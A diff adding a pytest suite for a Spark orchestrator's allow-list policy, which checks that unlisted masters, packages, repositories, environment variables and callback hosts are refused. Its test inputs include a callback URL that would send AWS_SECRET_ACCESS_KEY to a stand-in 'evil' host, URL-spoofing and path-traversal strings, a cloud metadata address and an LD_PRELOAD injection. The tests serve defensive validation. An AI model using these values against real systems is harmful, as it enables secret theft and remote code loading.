@@ -1,0 +1,290 @@
+"""What an operator's lists allow: each rule, each way around it, and which rule is named."""
+
+from typing import Any
+
+import pytest
+
+from orchestrator.models.definition import Definition, build_definition
+from orchestrator.plan import compile_program
+from orchestrator.policy import Listed, Policy, Refused
+from orchestrator.policy_patterns import matches_any
+from orchestrator.policy_settings import PoolPolicy
+from orchestrator.pool_spark import pool_spark
+
+K8S = "k8s://https://one:6443"
+
+
+def definition(spark: dict[str, Any] | None = None, **fields: Any) -> Definition:
+    document = {"name": "job", "spark": spark or {}, **fields}
+    if not {"jar", "script", "python"} & fields.keys():
+        document["python"] = "pass"
+    return build_definition(document, "test")
+
+
+def policy(**lists: list[str]) -> Policy:
+    return Policy({"*": PoolPolicy.model_validate(lists)})
+
+
+def refused(made: Policy, job: Definition, **more: Any) -> str:
+    with pytest.raises(Refused) as raised:
+        made.check("team", job, **more)
+    return str(raised.value)
+
+
+@pytest.mark.parametrize(
+    ("pattern", "text", "fits"),
+    [
+        ("local[*]", "local[4]", True),
+        ("local[*]", "local[*]", True),
+        ("local[*]", "local", False),
+        ("*", "anything/at/all", True),
+        ("spark://*:7077", "spark://one.example.org:7077", True),
+        ("spark://*:7077", "spark://evil/x:7077", False),
+        ("https://*.example.org/*", "https://repo.example.org/maven/x.jar", True),
+        ("https://*.example.org/*", "https://evil/.example.org/x.jar", False),
+        ("https://repo/*", "https://repo/@evil/x.jar", False),
+        ("https://repo/good/*", "https://repo/good/../bad/x.jar", False),
+        ("https://repo/good/*", "https://repo/good/%2e%2e/bad/x.jar", False),
+        ("org.apache.*:*", "org.apache.spark:spark-avro_2.13:4.0.0", True),
+        ("a*b*c", "axbxbyc", True),
+        ("a*b*c", "ac", False),
+        ("ab*ba", "aba", False),
+        ("", "x", False),
+    ],
+)
+def test_a_star_stands_for_characters_of_one_part(pattern: str, text: str, fits: bool) -> None:
+    assert matches_any([pattern], text) is fits
+
+
+def test_without_lists_all_is_open_as_before() -> None:
+    spark = {
+        "master": "spark://any:7077",
+        "packages": ["a:b:1"],
+        "conf": {"spark.jars.repositories": "http://x"},
+    }
+    Policy().check("team", definition(spark, callback={"url": "http://127.0.0.1:1/x"}))
+
+
+REFUSALS: list[tuple[dict[str, list[str]], dict[str, Any], str]] = [
+    ({"masters": ["local[*]"]}, {"master": "spark://evil:7077"}, "the master 'spark://evil:7077'"),
+    (
+        {"masters": ["spark://one:*"]},
+        {"master": "spark://one:7077,evil:7077"},
+        "the master 'spark://evil:7077'",
+    ),
+    ({"masters": ["yarn"]}, {}, "the master 'local[*]'"),
+    (
+        {"masters": ["spark://one:*"]},
+        {"master": "spark://one:7077", "standalone": {"ui": "169.254.169.254:80"}},
+        "'169.254.169.254:80' in `spark.standalone.ui`",
+    ),
+    (
+        {"masters": ["spark://one:*"]},
+        {"master": "spark://one:7077", "standalone": {"rest": "http://evil:6066"}},
+        "in `spark.standalone.rest`",
+    ),
+    (
+        {"masters": ["yarn"]},
+        {"master": "yarn", "yarn": {"resource_manager": "http://evil:8088"}},
+        "in `spark.yarn.resource_manager`",
+    ),
+    ({"namespaces": ["team-*"]}, {"master": K8S}, "the namespace 'default'"),
+    (
+        {"namespaces": ["team-*"]},
+        {"master": K8S, "kubernetes": {"namespace": "kube-system"}},
+        "the namespace 'kube-system'",
+    ),
+    ({}, {"master": K8S, "kubernetes": {"context": "admin"}}, "the context 'admin'"),
+    (
+        {"contexts": ["etl"]},
+        {"master": K8S, "kubernetes": {"context": "admin"}},
+        "the context 'admin'",
+    ),
+    ({"packages": ["org.good:*"]}, {"packages": ["org.evil:x:1"]}, "the package 'org.evil:x:1'"),
+    (
+        {"packages": ["org.good:*"]},
+        {"conf": {"spark.jars.packages": "org.good:x:1, org.evil:x:1"}},
+        "the package 'org.evil:x:1'",
+    ),
+    (
+        {"packages": ["org.good:*"]},
+        {"conf": {"spark.jars.repositories": "https://evil/"}},
+        "the repository 'https://evil/'",
+    ),
+    (
+        {"repositories": ["https://repo/*"]},
+        {"conf": {"spark.jars.repositories": "https://evil/"}},
+        "the repository 'https://evil/'",
+    ),
+    ({"packages": ["a:*"]}, {"jars": ["https://evil/x.jar"]}, "the file 'https://evil/x.jar'"),
+    ({"packages": ["a:*"]}, {"py_files": ["s3a://evil/x.zip"]}, "the file 's3a://evil/x.zip'"),
+    ({"packages": ["a:*"]}, {"conf": {"spark.jars": "ivy://a:b:1"}}, "the file 'ivy://a:b:1'"),
+    *(
+        ({"packages": ["a:*"]}, {"conf": {name: "http://evil/x"}}, "http://evil/x")
+        for name in ("spark.submit.pyFiles", "spark.archives", "spark.yarn.archive", "spark.yarn.dist.jars")
+    ),
+    *(
+        ({"packages": ["a:*"]}, {"conf": {name: "/x"}}, f"cannot set {name}")
+        for name in ("spark.jars.ivySettings", "spark.plugins", "spark.driver.extraClassPath")
+    ),
+    (
+        {"repositories": []},
+        {"conf": {"spark.driver.extraJavaOptions": "-Dspark.jars.repositories=http://evil"}},
+        "cannot set spark.driver.extraJavaOptions",
+    ),
+    ({"environment": ["DATA_*"]}, {"conf": {"spark.x": "${env:AWS_KEY}"}}, "variable 'AWS_KEY'"),
+    (
+        {"environment": ["DATA_*"]},
+        {"conf": {"spark.hadoop.x": "${env.AWS_KEY:-none}"}},
+        "variable 'AWS_KEY'",
+    ),
+    ({"environment": ["DATA_*"]}, {"conf": {"spark.executorEnv.LD_PRELOAD": "x"}}, "variable 'LD_PRELOAD'"),
+    ({"environment": []}, {"conf": {"spark.kubernetes.driverEnv.A": "x"}}, "variable 'A'"),
+]
+
+
+@pytest.mark.parametrize(("lists", "spark", "words"), REFUSALS)
+def test_what_is_not_listed_is_refused_with_the_rule(
+    lists: dict[str, list[str]], spark: dict[str, Any], words: str
+) -> None:
+    job = definition(spark)
+    said = refused(policy(**lists), job, spark=job.spark)
+    assert words in said
+    assert "pool team" in said
+    (rule,) = lists or {"contexts": []}
+    assert f'policy."*".{rule}' in said or 'policy."*".repositories' in said
+
+
+ALLOWED: list[tuple[dict[str, list[str]], dict[str, Any]]] = [
+    ({"masters": ["local[*]"]}, {}),
+    ({"masters": ["spark://*:7077"]}, {"master": "spark://one:7077,two:7077"}),
+    (
+        {"masters": ["spark://one:7077"]},
+        {"master": "spark://one:7077", "standalone": {"ui": "one:80", "rest": "http://one:81"}},
+    ),
+    (
+        {"masters": ["yarn", "http://rm*:8088"]},
+        {"master": "yarn", "yarn": {"resource_manager": "http://rm1:8088,http://rm2:8088"}},
+    ),
+    ({"namespaces": ["team-*"]}, {"master": K8S, "kubernetes": {"namespace": "team-a"}}),
+    ({"namespaces": []}, {"master": "local[2]"}),
+    ({"contexts": ["etl*"]}, {"master": K8S, "kubernetes": {"context": "etl-1"}}),
+    ({"packages": ["org.good:*"]}, {"packages": ["org.good:x:1"], "jars": ["/a.jar", "local:///b.jar"]}),
+    (
+        {"packages": ["a:*"], "repositories": ["https://repo/*"]},
+        {"conf": {"spark.jars.repositories": "https://repo/maven"}, "jars": ["https://repo/x.jar"]},
+    ),
+    ({"environment": ["DATA_*"]}, {"conf": {"spark.executorEnv.DATA_DIR": "x"}}),
+    ({}, {"conf": {"spark.kubernetes.authenticate.driver.serviceAccountName": "spark"}}),
+]
+
+
+@pytest.mark.parametrize(("lists", "spark"), ALLOWED)
+def test_what_is_listed_is_allowed(lists: dict[str, list[str]], spark: dict[str, Any]) -> None:
+    job = definition(spark)
+    policy(**lists).check("team", job, spark=job.spark)
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "spark.master",
+        "spark.submit.deployMode",
+        "spark.kubernetes.authenticate.submission.oauthToken",
+        "spark.kubernetes.authenticate.submission.caCertFile",
+        "spark.kubernetes.authenticate.driver.oauthTokenFile",
+        "spark.kubernetes.driver.master",
+        "spark.hadoop.yarn.resourcemanager.address",
+    ],
+)
+def test_no_definition_redirects_spark_submit_and_its_credentials(name: str) -> None:
+    assert f"cannot set {name}" in refused(Policy(), definition({"conf": {name: "x"}}))
+
+
+def test_a_master_over_plain_http_is_refused() -> None:
+    assert "https alone" in refused(Policy(), definition({"master": "k8s://http://one:6443"}))
+
+
+def test_what_the_settings_say_of_the_pool_needs_no_list() -> None:
+    defaults = {
+        "master": K8S,
+        "kubernetes": {"namespace": "their-own", "context": "admin"},
+        "packages": ["org.own:x:1"],
+        "conf": {"spark.kubernetes.authenticate.submission.oauthToken": "x"},
+    }
+    own = definition({})
+    made = policy(masters=["local[*]"], namespaces=["team"], contexts=[], packages=[])
+    filled = pool_spark({"team": defaults})("team", own.spark)
+    made.check("team", own, spark=filled)
+    assert "the namespace 'x'" in refused(made, definition({"kubernetes": {"namespace": "x"}}), spark=filled)
+
+
+def test_the_list_of_a_pool_stands_for_that_of_all() -> None:
+    made = Policy(
+        {
+            "*": PoolPolicy(masters=("local[*]",), packages=()),
+            "team": PoolPolicy(masters=("yarn",)),
+        }
+    )
+    said = refused(made, definition({"master": "local[2]"}))
+    assert (
+        said
+        == "the master 'local[2]' is refused in pool team by the setting policy.team.masters (allowed: yarn)"
+    )
+    said = refused(made, definition({"master": "yarn", "packages": ["a:b:1"]}))
+    assert 'policy."*".packages (none is allowed)' in said
+    made.check("other", definition({"master": "local[2]"}))
+    made.check("team.low", definition({"master": "yarn"}))
+
+
+def test_connectors_are_those_of_tables_and_of_files_that_queries_name() -> None:
+    made = policy(connectors=["inline", "print"])
+    scripts = """
+CREATE TABLE c USING csv OPTIONS (path '/x', header 'true'); INSERT INTO p SELECT * FROM c
+INSERT INTO p SELECT * FROM csv.`/x`
+INSERT INTO p SELECT * FROM `csv` /* */ . /* */ `/x`
+CREATE VIEW v AS SELECT * FROM CSV.`/x`; INSERT INTO p SELECT * FROM v
+""".strip().splitlines()
+
+    def check(script: str) -> None:
+        job = definition(script=f"CREATE TABLE p USING print; {script}")
+        made.check("team", job, plan=compile_program(job))
+
+    check("INSERT INTO p SELECT 1")
+    for script in scripts:
+        with pytest.raises(Refused, match="the connector 'csv' is refused"):
+            check(script)
+
+
+# ---------------------------------------------------------------------- callbacks
+def test_hosts_of_callbacks_are_listed_with_or_without_a_port() -> None:
+    made = policy(callback_hosts=["*.example.org", "one:8080", "10.0.0.1"])
+    assert made.check_callback("team", "Hooks.Example.org", 443) is Listed.BY_PATTERN
+    assert made.check_callback("team", "one", 8080) is Listed.BY_NAME
+    assert made.check_callback("team", "10.0.0.1", 80) is Listed.BY_NAME
+    assert Policy().check_callback("team", "any", 80) is Listed.OPEN
+    for host, port in (("one", 80), ("evil.org", 443), ("evil/.example.org", 443)):
+        with pytest.raises(Refused, match="by the setting policy"):
+            made.check_callback("team", host, port)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://evil/x",
+        "https://hooks.example.org@evil/x",
+        "http://user:x@evil:80/",
+        "https://evil#.example.org",
+    ],
+)
+def test_a_receiver_that_is_not_listed_is_refused_at_once(url: str) -> None:
+    made = policy(callback_hosts=["*.example.org"])
+    assert "the callback to evil" in refused(made, definition(callback={"url": url}))
+
+
+def test_a_variable_of_the_worker_goes_to_no_host_of_the_definition_s_choice() -> None:
+    leak = definition(callback={"url": "https://evil/?x=${env:AWS_SECRET_ACCESS_KEY}"})
+    assert "would send the worker's variable 'AWS_SECRET_ACCESS_KEY' to evil" in refused(Policy(), leak)
+    policy(callback_hosts=["evil"]).check("team", leak)
+    policy(environment=["AWS_*"]).check("team", leak)
+    Policy().check("team", definition(callback={"url": "${env:RECEIVER}/path/${env:TOKEN}"}))
